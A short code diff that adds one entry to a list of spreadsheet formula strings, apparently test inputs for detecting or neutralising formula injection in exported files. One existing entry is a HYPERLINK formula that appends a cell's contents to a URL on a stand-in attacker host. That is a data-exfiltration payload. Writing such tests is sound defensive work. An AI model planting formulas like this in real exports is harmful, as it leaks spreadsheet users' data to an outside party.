@@ -20,6 +20,7 @@ FORMULAS = [
     '=HYPERLINK("http://evil.example?"&A1)',
     " =1",
     "\n=1",
+    "'=1",
     "=1",
 ]
 
